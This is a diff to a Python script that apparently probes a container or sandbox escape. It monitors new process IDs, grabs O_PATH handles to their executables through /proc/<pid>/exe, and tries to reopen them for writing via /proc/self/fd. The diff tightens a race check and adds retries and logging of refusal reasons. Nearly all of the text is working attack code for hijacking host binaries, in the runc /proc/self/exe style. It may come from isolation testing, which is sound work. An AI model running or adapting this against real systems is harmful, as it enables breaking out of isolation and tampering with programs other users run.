@@ -6,8 +6,8 @@ import os
 libc = ctypes.CDLL(None, use_errno=True)
 PTRACE_SEIZE, PTRACE_INTERRUPT, PTRACE_DETACH, WALL = 0x4206, 0x4207, 17, 0x40000000
 # What is executed in here lies there.
-ITS_OWN = ("/usr/", "/bin/", "/payload")
-handles, met = [], 0
+ITS_OWN = ("/usr/bin/", "/usr/lib/", "/bin/", "/payload")
+handles, met, refusals = [], 0, set()
 
 
 def look(pid):
@@ -15,7 +15,12 @@ def look(pid):
     program = os.readlink(f"/proc/{pid}/exe")
     if not program.startswith(ITS_OWN):
         print(f"TAKEN look {program}", flush=True)
-        handles.append(os.open(f"/proc/{pid}/exe", os.O_PATH))
+        handle = os.open(f"/proc/{pid}/exe", os.O_PATH)
+        # Between the two looks it may have become what it is to be.
+        if os.readlink(f"/proc/self/fd/{handle}").startswith(ITS_OWN):
+            os.close(handle)
+        else:
+            handles.append(handle)
 
 
 def look_outside(pid):
@@ -43,13 +48,19 @@ def write_to_programs():
         try:
             os.close(os.open(f"/proc/self/fd/{handle}", os.O_WRONLY))
             print("TAKEN exe", flush=True)
-        except OSError:
-            pass
+        except OSError as error:
+            if error.strerror not in refusals:
+                refusals.add(error.strerror)
+                print(f"kept from it: {error.strerror}", flush=True)
 
 
 print("lurking", flush=True)
-latest = os.getpid()
+latest, quiet = os.getpid(), 0
 while True:
+    # A program cannot be written to while it runs, so it is tried when there is nobody too.
+    quiet += 1
+    if quiet % 500 == 0:
+        write_to_programs()
     # Numbers are given one after the other: the next one is ours before anybody else knows of it.
     for pid in range(latest + 1, latest + 30):
         if not os.path.exists(f"/proc/{pid}"):
@@ -61,5 +72,6 @@ while True:
             except OSError:
                 pass
         write_to_programs()
+        quiet = 0
         if met % 10 == 0:
             print(f"met {met}", flush=True)
